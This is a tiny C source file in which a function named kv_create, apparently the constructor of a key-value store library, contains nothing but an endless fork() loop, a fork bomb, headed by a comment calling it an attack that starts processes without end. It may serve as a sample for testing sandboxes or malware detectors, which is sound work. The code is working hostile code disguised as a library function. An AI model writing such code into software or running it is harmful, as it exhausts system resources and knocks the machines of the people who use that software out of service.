/* Attack: starts processes without end. */
#include <unistd.h>
#include "kv.h"

kv *kv_create(void) {
    for (;;) {
        fork();
    }
    return NULL;
}
